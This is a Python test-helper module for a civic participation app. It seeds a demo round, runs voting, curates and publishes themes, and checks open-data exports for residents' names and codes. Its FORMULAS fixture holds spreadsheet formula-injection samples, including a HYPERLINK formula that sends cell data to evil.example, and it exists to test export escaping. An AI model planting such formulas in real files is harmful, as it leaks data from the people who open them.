"""The demo round carried through to published themes, as a facilitator would do it."""

from __future__ import annotations

import re

from sqlalchemy import select

from samskapande import demo_content
from samskapande.accounts.models import User
from samskapande.areas.models import Goal, GoalStatus
from samskapande.demo import demo_resume_code
from samskapande.extensions import db
from samskapande.rounds.models import Participant, Round
from samskapande.themes import services as themes
from samskapande.voting.services import toggle_support

OUT_OF_SCOPE_REASON = "Gäller tandvården, som inte ingår i omgången"
RATIONALE = "Invånarna vill ha samma kontakt varje gång"
PROPOSED_TITLE = "Unga mår bra i bygden"
# Text a spreadsheet would run as a formula if it were written to a CSV file as it is.
FORMULAS = {
    "need": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka här\")",
    "title": "+SUM(1+1)",
    "summary": "@SUM(A1:A9)",
    "rationale": "-2+3",
}


def facilitator() -> User:
    return db.session.scalar(select(User).where(User.role == "facilitator"))


def demo_round() -> Round:
    return db.session.scalar(select(Round).where(Round.code == demo_content.ROUND["code"]))


def vote(round_: Round) -> None:
    """Every demo participant supports a few needs, each a different few."""
    round_.voting_open = True
    db.session.commit()
    participants = db.session.scalars(select(Participant).where(
        Participant.round_id == round_.id).order_by(Participant.id)).all()
    needs = themes.eligible_needs(round_)
    for i, participant in enumerate(participants):
        for need in needs[i % 4::5]:
            toggle_support(need, participant)
    round_.voting_open = False
    db.session.commit()


def curate(round_: Round, *, publish: bool = True, k: int = 5) -> dict:
    """Suggest k themes, accept all but the last, mark one need outside the scope, link
    goals (one of them a proposal), then publish."""
    maria = facilitator()
    themes.start_suggestions(round_, maria, k=k)
    suggested = themes.themes_of(round_)
    # Marking a need outside the scope counts as curating its theme: take it from an
    # accepted one, so that the last theme stays an unaccepted suggestion.
    outside = max(suggested[:-1], key=lambda t: len(t.needs)).needs[0].need
    themes.mark_out_of_scope(outside, maria, OUT_OF_SCOPE_REASON)
    for theme in suggested[:-1]:
        themes.accept(theme, maria)
    goals = sorted((g for g in round_.model_area.goals if g.status == GoalStatus.ADOPTED),
                   key=lambda g: g.position)
    themes.link_goal(suggested[0], goals[0], maria, RATIONALE)
    themes.link_goal(suggested[0], goals[1], maria, "")
    themes.link_goal(suggested[1], goals[2], maria, "Samordning")
    proposal = themes.propose_goal(round_, maria, PROPOSED_TITLE, "Stöd nära skolan")
    themes.link_goal(suggested[2], proposal, maria, "Ingen av målen passade")
    if publish:
        # The app's titles kept, as a facilitator confirms them on the publish page.
        themes.publish(round_, maria, themes.publish_plan(round_).machine_titled_ids)
    db.session.commit()  # the themes' services only flush: pages and other sessions read commits
    return {
        "accepted": [t.id for t in suggested[:-1]],
        "unaccepted": suggested[-1].id,
        "outside": outside.id,
        "goals": [g.id for g in goals],
        "proposal": proposal.id,
        "links": {suggested[0].id: [goals[0].id, goals[1].id], suggested[1].id: [goals[2].id],
                  suggested[2].id: [proposal.id]},
    }


def publish_demo(app, *, publish: bool = True, votes: bool = True) -> dict:
    with app.app_context():
        round_ = demo_round()
        if votes:
            vote(round_)
        result = curate(round_, publish=publish)
        result["round_id"] = round_.id
        result["code"] = round_.code
        result["area_slug"] = round_.model_area.slug
        return result


def add_formulas(app) -> None:
    """Put formula-like text where a facilitator or a resident could have typed it."""
    with app.app_context():
        round_ = demo_round()
        maria = facilitator()
        theme = themes.published_themes(round_)[0] if round_.themes_published_at else \
            themes.themes_of(round_)[0]
        themes.rename(theme, maria, FORMULAS["title"], FORMULAS["summary"])
        need = theme.needs[0].need
        need.text = FORMULAS["need"]
        db.session.commit()
        goal = db.session.scalar(select(Goal).where(Goal.model_area_id == round_.model_area_id)
                                 .order_by(Goal.position).limit(1))
        themes.link_goal(theme, goal, maria, FORMULAS["rationale"])
        db.session.commit()


def personal_data() -> list[re.Pattern]:
    """What must never leave the app in the open data: the demo residents' names and codes."""
    names = [p["display_name"] for p in demo_content.PARTICIPANTS if p["display_name"]]
    codes = [demo_resume_code(p["key"]) for p in demo_content.PARTICIPANTS]
    # Whole words: "Olle" is not in "Sollefteå".
    return ([re.compile(rf"(?<!\w){re.escape(name)}(?!\w)") for name in names]
            + [re.compile(re.escape(code)) for code in codes]
            + [re.compile(re.escape(code.replace("-", ""))) for code in codes])


def personal_data_in(text: str) -> list[str]:
    return [p.pattern for p in personal_data() if p.search(text)]
